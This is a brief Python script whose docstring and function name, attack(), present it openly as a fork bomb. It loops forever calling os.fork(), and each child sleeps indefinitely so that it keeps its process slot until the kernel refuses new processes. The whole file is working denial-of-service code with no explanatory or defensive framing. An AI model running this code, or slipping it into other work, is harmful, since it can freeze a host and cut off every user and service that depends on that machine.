"""Fork until the kernel refuses; every child holds its slot forever."""
import os
import time


def attack():
    while True:
        if os.fork() == 0:
            while True:
                time.sleep(1)
